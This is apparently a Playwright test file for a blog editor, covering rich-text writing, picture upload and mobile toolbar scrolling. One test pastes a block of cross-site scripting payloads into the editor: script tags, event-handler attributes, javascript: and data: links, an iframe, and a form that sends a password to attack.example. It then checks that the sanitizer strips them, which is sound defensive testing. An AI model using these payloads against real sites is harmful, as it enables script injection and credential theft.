import type { Locator, Page } from '@playwright/test'
import sharp from 'sharp'
import { expect, test } from '../support/browser-test'
import { newPerson } from '../support/people'
import { visit } from '../support/visit'

const RUN = Date.now()

async function picture(name: string, background: string) {
  const buffer = await sharp({ create: { width: 900, height: 600, channels: 3, background } })
    .jpeg()
    .toBuffer()
  return { name, mimeType: 'image/jpeg', buffer }
}

const content = (page: Page) => page.getByRole('textbox', { name: /^Content/ })
const tool = (page: Page, name: string) =>
  page.getByRole('toolbar', { name: 'Formatting tools' }).getByRole('button', { name, exact: true })
const create = (page: Page) => page.getByRole('button', { name: 'Create Blog' }).click()

async function writeHead(page: Page, title: string) {
  await page.getByLabel('Title', { exact: true }).fill(title)
  await page.getByLabel('Description').fill('I was afraid of the needle, and told the nurse so.')
}

async function choosePhoto(page: Page) {
  await page.getByLabel('Photo').setInputFiles(await picture('me.jpg', '#8fb7a3'))
  await expect(page.getByText('me.jpg')).toBeVisible()
}

/** Pastes the clipboard content of another page. */
async function paste(box: Locator, html: string) {
  await box.evaluate((element, copied) => {
    const clipboardData = new DataTransfer()
    clipboardData.setData('text/html', copied)
    const event = { clipboardData, bubbles: true, cancelable: true }
    element.dispatchEvent(new ClipboardEvent('paste', event))
  }, html)
}

/** Moves the cursor by a key to these words; the editor can move it back right after the focus. */
async function moveTo(page: Page, key: 'Control+Home' | 'Control+End', words: string) {
  await expect(async () => {
    await page.keyboard.press(key)
    const at = await page.evaluate(() => document.getSelection()?.anchorNode?.textContent)
    expect(at).toBe(words)
  }).toPass()
  await page.evaluate(untilCursorIsKnown)
}

/** The editor gets a cursor event at the latest in the next frame; runs in the page. */
function untilCursorIsKnown() {
  return new Promise<void>((known) => {
    requestAnimationFrame(() => requestAnimationFrame(() => known()))
  })
}

/** The text of the paragraph in which the cursor is; runs in the page. */
function textAtCursor(): string | undefined {
  const at = document.getSelection()?.anchorNode
  const element = at instanceof Element ? at : at?.parentElement
  return element?.closest('p')?.textContent ?? undefined
}

/** Presses the only button that opens the post, and returns the post's path. */
async function goToPost(page: Page): Promise<string> {
  const praise = page.getByRole('alertdialog', { name: 'Good job!' })
  await expect(praise.getByText('Blog is Created')).toBeVisible()
  await praise.getByRole('button', { name: 'Read the post' }).click()
  await expect(page).toHaveURL(/\/blog\/[0-9a-f]{24}$/)
  return new URL(page.url()).pathname
}

test('a member writes a post with a list, a link and a picture, and publishes it', async ({
  page,
}) => {
  test.setTimeout(180_000)
  const title = `My first donation ${RUN}`
  await newPerson(page, 'Nusrat Jahan')

  await test.step('starts with headings, a list and a link', async () => {
    await visit(page, '/dashboard/createBlog')
    await writeHead(page, title)
    await content(page).click()
    await page.keyboard.type('## The evening before')
    await page.keyboard.press('Enter')
    await page.keyboard.type('I drank ')
    await page.keyboard.press('Control+b')
    await page.keyboard.type('water')
    await page.keyboard.press('Control+b')
    await page.keyboard.type(' and read ')
    await page.keyboard.press('Control+k')
    const dialog = page.getByRole('dialog', { name: 'Add link' })
    await dialog.getByLabel('Link text').fill('what awaits me')
    await dialog.getByLabel('Address').fill('donate.example.org/first')
    await dialog.getByRole('button', { name: 'Add link' }).click()
    await expect(content(page)).toBeFocused()
    await page.keyboard.type('.')
    await page.keyboard.press('Enter')
    await tool(page, 'Subheading').click()
    await page.keyboard.type('What I took along')
    await page.keyboard.press('Enter')
    await tool(page, 'Bulleted list').click()
    await page.keyboard.type('My card')
    await page.keyboard.press('Enter')
    await page.keyboard.type('My brother')
    await expect(tool(page, 'Bulleted list')).toHaveAttribute('aria-pressed', 'true')
  })

  await test.step('adds a picture with its description, and writes below it', async () => {
    await content(page).click()
    await moveTo(page, 'Control+End', 'My brother')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Enter')
    await tool(page, 'Picture').click()
    const dialog = page.getByRole('dialog', { name: 'Add picture' })
    await dialog.locator('input[type=file]').setInputFiles(await picture('tea.jpg', '#c1121f'))
    await expect(dialog.getByText('tea.jpg')).toBeVisible()
    await dialog.getByLabel('Description').fill('A cup of tea')
    await dialog.getByRole('button', { name: 'Add picture' }).click()
    await expect(content(page).getByRole('img', { name: 'A cup of tea' })).toBeVisible()
    await expect(content(page)).toBeFocused()
    // The focus arrives before the cursor, which moves below the picture.
    await expect.poll(() => page.evaluate(textAtCursor)).toBe('')
    await page.keyboard.type('It was over sooner than the tea.')
    await expect(content(page).locator('p').last()).toHaveText('It was over sooner than the tea.')
  })

  let path = ''
  await test.step('publishes it and opens it', async () => {
    await choosePhoto(page)
    await create(page)
    path = await goToPost(page)
  })

  await test.step('reads it as it was written', async () => {
    await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible()
    const text = page.locator('.rich-text')
    await expect(text.getByRole('heading', { level: 2 })).toHaveText('The evening before')
    await expect(text.getByRole('heading', { level: 3 })).toHaveText('What I took along')
    await expect(text.getByRole('listitem')).toHaveText(['My card', 'My brother'])
    await expect(text.locator('strong')).toHaveText('water')
    const link = text.getByRole('link', { name: 'what awaits me' })
    await expect(link).toHaveAttribute('href', 'https://donate.example.org/first')
    const image = text.getByRole('img', { name: 'A cup of tea' })
    await image.scrollIntoViewIfNeeded()
    await expect(image).toHaveJSProperty('complete', true)
    expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(900)
    // Its space is reserved before it loads.
    await expect(image).toHaveAttribute('height', '600')
  })

  await page.request.delete(path.replace('/blog/', '/api/deleteblogpost/'))
})

test('pasted hostile HTML does no harm', async ({ page }) => {
  const attacks: string[] = []
  await page.exposeFunction('attack', (name: string) => attacks.push(name))
  await newPerson(page, 'Rokeya Begum')
  await page.goto('/dashboard/createBlog')
  await content(page).click()
  await paste(
    content(page),
    `<h1 onclick="attack('click')">Copied</h1><p style="position:fixed;inset:0">words</p>
     <script>attack('script')</script><img src="/nowhere.png" onerror="attack('error')">
     <svg onload="attack('svg')"><a href="javascript:attack('svg link')">x</a></svg>
     <a href="javascript:attack('link')">link</a><a href="data:text/html,<script>1</script>">data</a>
     <iframe srcdoc="<script>parent.attack('frame')</script>"></iframe><style>*{display:none}</style>
     <form action="https://attack.example"><input name="password"><button>Send</button></form>`,
  )
  await expect(content(page).getByRole('heading', { level: 2 })).toHaveText('Copied')
  await expect(content(page)).toContainText('words')
  const hostile =
    'script, style, iframe, svg, form, input, [onclick], [onerror], [onload], a[href^="javascript"], a[href^="data"]'
  await expect(content(page).locator(hostile)).toHaveCount(0)
  expect(attacks).toEqual([])
})

test('the toolbar stays visible and scrolls while a person writes a long text on a phone', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 640 })
  await newPerson(page, 'Mitu Das')
  await page.goto('/dashboard/createBlog')
  await content(page).click()
  for (let line = 1; line <= 25; line += 1) {
    await page.keyboard.type(`Line ${line}`)
    await page.keyboard.press('Enter')
  }
  await page.keyboard.type('Here')
  const tools = page.getByRole('toolbar', { name: 'Formatting tools' })
  await expect(tools).toBeInViewport({ ratio: 1 })
  // The words, without all of the margin below them.
  await expect(content(page).getByText('Here')).toBeInViewport({ ratio: 0.8 })
  // The last button is outside at first; arrow keys scroll to it.
  await expect(tool(page, 'Redo')).not.toBeInViewport()
  await page.keyboard.press('Shift+Tab')
  await page.keyboard.press('End')
  await expect(tool(page, 'Redo')).toBeFocused()
  await expect(tool(page, 'Redo')).toBeInViewport({ ratio: 1 })
  // Moving to the first line by keyboard must not hide it behind the toolbar, even when a slow phone reports
  // the cursor late.
  await content(page).focus()
  await page.evaluate(() => {
    window.addEventListener('keydown', () => {
      const end = performance.now() + 100
      while (performance.now() < end);
    })
  })
  await moveTo(page, 'Control+Home', 'Line 1')
  const [first, bar] = [content(page).getByText('Line 1', { exact: true }), tools]
  await expect(async () => {
    const [line, edge] = [await first.boundingBox(), await bar.boundingBox()]
    expect(line?.y).toBeGreaterThanOrEqual((edge?.y ?? 0) + (edge?.height ?? 0) - 1)
  }).toPass({ timeout: 20_000 })
})
